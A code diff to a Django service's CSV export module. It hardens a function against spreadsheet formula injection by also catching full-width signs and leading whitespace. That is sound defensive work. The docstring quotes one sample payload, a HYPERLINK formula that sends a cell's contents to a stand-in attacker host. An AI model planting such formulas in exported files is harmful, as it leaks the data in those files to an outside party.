@@ -1,7 +1,7 @@
 """Every CSV the service writes goes through here, so no cell runs as a spreadsheet formula.
 
 A spreadsheet treats a cell starting ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab or a
-carriage return before one) as a formula: ``=HYPERLINK("https://evil.example?"&A1,"Open")``
+carriage return before one, and the full-width signs) as a formula: ``=HYPERLINK("https://evil.example?"&A1,"Open")``
 in a child's name or an uploaded file's name would run when a manager opens the file in
 Excel (CSV formula injection). ``safe_cell`` prefixes such text with an apostrophe, which
 spreadsheets show as text and do not print. Numbers stay numbers (``-2`` is a figure, not a
@@ -21,6 +21,8 @@ from math import isfinite
 from django.http import StreamingHttpResponse
 
 FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+#: The full-width forms of the same signs, which some spreadsheets read as the ASCII ones.
+FULL_WIDTH_STARTS = ("\uff1d", "\uff0b", "\uff0d", "\uff20")
 
 
 def _is_number(value) -> bool:
@@ -39,7 +41,9 @@ def safe_cell(value) -> str | int | float | Decimal:
     if _is_number(value):
         return value
     text = str(value)
-    return "'" + text if text.startswith(FORMULA_STARTS) else text
+    # Leading spaces and line breaks are skipped by some spreadsheets before they look for a formula.
+    first = text.lstrip(" \n\r\t\u00a0\u3000")
+    return "'" + text if first.startswith(FORMULA_STARTS + FULL_WIDTH_STARTS) else text
 
 
 class SafeWriter:
